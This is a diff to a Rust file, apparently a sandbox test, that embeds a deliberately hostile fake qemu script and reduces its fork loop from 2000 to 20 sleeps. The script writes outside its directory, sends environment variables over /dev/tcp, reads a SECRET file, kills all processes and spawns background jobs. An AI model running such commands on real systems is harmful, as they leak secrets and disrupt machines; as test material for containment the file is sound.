@@ -152,7 +152,7 @@ const ILL_QEMU: &str = r#"#!/bin/bash
 case "$1" in --version*) ;; *)
     { echo owned > OUTSIDE; exec 3<> /dev/tcp/127.0.0.1/PORT && env >&3; cat SECRET; } 2> /dev/null
     kill -9 -1 2> /dev/null
-    for ((i = 0; i < 2000; i++)); do sleep 500 & done 2> /dev/null ;;
+    for ((i = 0; i < 20; i++)); do sleep 500 & done 2> /dev/null ;;
 esac
 [ "$1 $2" = "-machine none" ] && exit 1
 "#;
